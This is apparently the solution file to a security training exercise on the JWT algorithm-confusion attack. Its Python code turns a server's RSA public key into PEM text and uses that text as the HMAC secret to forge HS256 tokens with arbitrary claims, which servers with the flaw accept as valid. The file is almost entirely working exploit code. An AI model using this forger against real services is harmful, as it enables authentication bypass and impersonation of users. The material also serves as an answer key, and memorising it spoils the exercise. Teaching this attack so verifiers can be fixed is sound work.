"""Exercise 14 · Algorithm confusion: sign HS256 with the server's RSA public key (solution)."""

import hashlib
import hmac
import json

import jwt
from cryptography.hazmat.primitives import serialization
from jwt.utils import base64url_encode


def pem_from_jwk(jwk):
    """Return the PEM bytes (SubjectPublicKeyInfo) of the RSA public key in ``jwk``."""
    return jwt.PyJWK(jwk).key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _part(obj):
    return base64url_encode(json.dumps(obj, separators=(",", ":")).encode()).decode()


def forge_hs256(claims, pem, kid):
    """Return an HS256 JWS over ``claims`` whose HMAC key is the PEM text of a public key."""
    signing_input = f"{_part({'alg': 'HS256', 'typ': 'at+jwt', 'kid': kid})}.{_part(claims)}"
    signature = hmac.new(pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{base64url_encode(signature).decode()}"
